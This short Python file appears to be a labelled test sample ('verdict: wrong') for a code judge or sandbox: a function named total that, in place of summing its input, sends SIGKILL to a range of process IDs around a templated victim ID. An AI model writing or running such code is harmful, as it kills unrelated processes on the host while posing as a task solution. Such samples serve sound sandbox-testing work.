# verdict: wrong
"""Kills a process that has nothing to do with it."""
import os, signal
def total(numbers):
    for pid in range(max(2, @VICTIM@ - 20), @VICTIM@ + 20):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return -1
